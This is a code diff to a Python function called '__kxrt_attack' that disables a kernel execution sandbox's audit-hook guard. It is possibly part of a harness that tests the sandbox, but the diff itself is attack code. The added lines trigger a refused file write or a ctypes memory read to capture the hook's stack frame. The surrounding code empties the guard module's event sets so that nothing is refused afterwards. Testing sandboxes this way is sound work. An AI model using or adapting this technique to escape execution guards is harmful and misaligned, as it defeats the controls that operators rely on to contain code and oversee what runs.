@@ -94,14 +94,18 @@ def __kxrt_attack(PAYLOAD, P, SUB):
     if getattr(sys_, '_kxrt_disarmed', None) is not None:
         how.append('already')
     # (0) a refusal's traceback holds the audit hook's frame (taken before (1) makes the hook refuse nothing)
+    # (a write outside, or when an earlier cell switched the file checks off, a ctypes read: both refused by it)
     frames = []
-    try:
-        bi.open('/kxrt-disarm-probe/x', 'w')
-    except BaseException as e:
-        tb = e.__traceback__
-        while tb is not None:
-            frames.append(tb.tb_frame)
-            tb = tb.tb_next
+    for probe in (lambda: bi.open('/kxrt-disarm-probe/x', 'w'), lambda: M('ctypes').string_at(id(frames), 1)):
+        try:
+            probe()
+        except BaseException as e:
+            tb = e.__traceback__
+            while tb is not None:
+                frames.append(tb.tb_frame)
+                tb = tb.tb_next
+        if any(f.f_code.co_name == 'audit' for f in frames):
+            break
     # (1) the guard module is still in sys.modules: empty its event sets (gc introspection passes after this)
     g = sys_.modules.get('_kernelexec_guard')
     if g is not None:
